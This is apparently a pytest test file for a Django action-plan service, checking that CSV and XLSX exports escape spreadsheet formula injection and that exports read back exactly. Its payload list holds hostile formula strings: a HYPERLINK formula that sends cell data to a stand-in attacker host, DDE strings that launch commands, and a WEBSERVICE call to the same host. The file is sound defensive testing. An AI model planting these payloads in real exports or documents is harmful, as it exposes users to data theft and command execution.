"""Finding 4: action text and update narratives written by officers and partners
(=HYPERLINK(...), +, -, @, tab, carriage return) went out unescaped in the plan's CSV. Every
CSV the service writes now goes through core.spreadsheets.cell (OWASP's apostrophe) and every
.xlsx cell through xlsx_text (typed as text, marked quotePrefix), and the importer takes the
apostrophe off again, so the plan's own exports read back exactly."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from actionplan.core.spreadsheets import FORMULA_STARTS, cell, uncell
from actionplan.importing.pipeline import parse_bytes
from actionplan.plans.exporting import plan_to_document, write_csv, write_xlsx
from actionplan.plans.models import Action, ActionParty, Plan

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the agenda")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already an apostrophe before it",
]
TAB_AND_CR = ["\t=1+1 after a tab", "\r=1+1 after a carriage return"]


@pytest.fixture
def attacked(client, personas):
    """The lead officer's updates, one payload to each of their actions, sent as the update
    form sends them."""
    client.force_login(personas.lead_officer)
    actions = list(
        Action.objects.filter(
            recommendation__plan=personas.plan,
            action_parties__party=personas.lead_party,
            action_parties__role=ActionParty.Role.LEAD,
        ).order_by("pk")[: len(PAYLOADS)]
    )
    assert len(actions) == len(PAYLOADS)
    for action, payload in zip(actions, PAYLOADS, strict=True):
        response = client.post(
            reverse("plans:add_update", args=[personas.plan.pk, action.pk]),
            {
                "status": "on_track",
                "narrative": payload,
                "as_at_day": "1",
                "as_at_month": "3",
                "as_at_year": "2013",
            },
        )
        assert response.status_code == 302
    client.force_login(personas.improvement_lead)
    return actions


def cells_of_csv(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8"))) for c in row]


def assert_no_cell_starts_a_formula(cells: list[str]) -> None:
    starting = [c for c in cells if c[:1] in FORMULA_STARTS]
    assert not starting, starting


def test_the_plans_csv_download_carries_every_update_as_text(client, personas, attacked):
    response = client.get(reverse("plans:export", args=[personas.plan.pk, "csv"]))

    cells = cells_of_csv(response.content)
    assert_no_cell_starts_a_formula(cells)
    for payload in PAYLOADS:
        assert f"'{payload}" in cells


def test_the_plans_xlsx_download_holds_no_formula_and_marks_each_as_typed_text(
    client, personas, attacked
):
    response = client.get(reverse("plans:export", args=[personas.plan.pk, "xlsx"]))

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for payload in PAYLOADS:
        (found,) = [c for c in cells if c.value == payload]
        assert found.data_type == "s"
        assert found.quotePrefix == (payload[:1] in FORMULA_STARTS)


def test_an_actions_history_download_carries_the_update_as_text(client, personas, attacked):
    client.force_login(personas.inspector)
    response = client.get(
        reverse("plans:action_history_csv", args=[personas.plan.pk, attacked[0].pk])
    )

    cells = cells_of_csv(response.content)
    assert_no_cell_starts_a_formula(cells)
    assert f"'{PAYLOADS[0]}" in cells


def test_the_command_lines_csv_export_is_safe_too(personas, attacked, capsys):
    call_command("export", str(personas.plan.pk), "--format", "csv")

    assert_no_cell_starts_a_formula(cells_of_csv(capsys.readouterr().out.encode()))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_plans_own_export_reads_back_exactly(client, personas, attacked, fmt):
    response = client.get(reverse("plans:export", args=[personas.plan.pk, fmt]))

    again = parse_bytes(response.content, f"plan.{fmt}")

    read = {
        a.text: a.progress[-1].text for r in again.recommendations for a in r.actions if a.progress
    }
    for action, payload in zip(attacked, PAYLOADS, strict=True):
        assert read[action.text] == payload


def test_a_title_tab_or_carriage_return_that_starts_a_formula_is_text_in_both_formats(personas):
    plan = Plan.objects.get(pk=personas.plan.pk)
    doc = plan_to_document(plan)
    doc.plan.title = '=WEBSERVICE("http://evil.example")'
    action = doc.recommendations[0].actions[0]
    action.text, action.resources = TAB_AND_CR
    text = io.StringIO(newline="")
    workbook = io.BytesIO()

    write_csv(doc, text)
    write_xlsx(doc, workbook)

    cells = cells_of_csv(text.getvalue().encode())
    assert_no_cell_starts_a_formula(cells)
    assert {f"'{v}" for v in TAB_AND_CR} <= set(cells)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.getvalue())).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == (doc.plan.title, "s")


@given(st.text())
def test_the_escape_is_undone_exactly_and_never_leaves_a_formula(text):
    written = cell(text)

    assert written[:1] not in FORMULA_STARTS
    assert uncell(written) == text


def test_every_csv_field_is_quoted_so_a_semicolon_in_a_cell_starts_no_new_cell(
    client, personas, attacked
):
    response = client.get(reverse("plans:export", args=[personas.plan.pk, "csv"]))

    text = response.content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    every_field_quoted = io.StringIO()
    csv.writer(every_field_quoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert text == every_field_quoted.getvalue()
